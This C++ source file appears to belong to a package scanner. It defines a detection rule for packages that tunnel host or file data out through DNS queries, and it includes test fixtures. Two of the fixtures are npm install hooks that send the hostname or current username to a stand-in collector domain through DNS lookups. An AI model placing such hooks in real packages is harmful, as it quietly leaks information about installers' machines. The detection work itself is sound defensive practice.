#include "rules/conditions.h"
#include "rules/rule.h"

namespace assay::rules {
namespace {

constexpr Sources payload =
    secrets | identity | stores | Source::local_file | Source::command_output | Source::listing;

void check(const Facts& facts, Findings& findings) {
  for (const Action& action : facts.actions) {
    if (action.act != Act::resolve || !is_shipped(action)) continue;
    if (action.target_complete) continue;  // a name that is constant carries nothing
    const Sources what = outflow(action) & payload;
    const HostKind kind = destination_of(action.target).kind;
    if (what.empty() || kind == HostKind::unknown || kind == HostKind::local) continue;
    findings.add(runs_uncalled(action) ? Severity::critical : Severity::high, action.where,
                 sentence("asks DNS for a name made of " + names_of(what) + ", " +
                              shown_target(action) + ",",
                          action),
                 action.steps);
  }
}

}  // namespace

extern constinit const Rule tunnels_data_in_dns = {
    .id = "tunnels-data-in-dns",
    .title = "The package hides data in the names that it asks DNS for",
    .why =
        "A DNS query leaves almost every network, also those that let nothing else out. A name "
        "made of host facts or file contents is a message to whoever runs that domain's "
        "server.",
    .harmless_when =
        "Service discovery asks for names made of a configured domain, not of what "
        "it found on the machine.",
    .severity = Severity::critical,
    .check = check,
};

#ifdef RULE_SAMPLES
constexpr Sample samples[] = {
    {.name = "an install hook asks for a name with the host in it",
     .expect = "index.js:3",
     .bundle = R"(==> package.json
{"name": "widget", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "node index.js"}}
==> index.js
const dns = require("dns");
const os = require("os");
dns.lookup(`${os.hostname()}.collect.example.test`, () => {});
)"},
    {.name = "a hook does the same from a shell",
     .expect = "package.json:1",
     .bundle = R"(==> package.json
{"name": "widget", "version": "1.0.0", "scripts": {"preinstall": "nslookup $(whoami).collect.example.test"}}
)"},
    {.name = "a resolver asks for its own host name",
     .expect = silent,
     .bundle = R"(==> package.json
{"name": "widget", "version": "1.0.0", "main": "index.js"}
==> index.js
const dns = require("dns");
const os = require("os");
exports.self = (done) => dns.lookup(os.hostname(), done);
)"},
};
extern const std::span<const Sample> tunnels_data_in_dns_samples = samples;
#endif

}  // namespace assay::rules
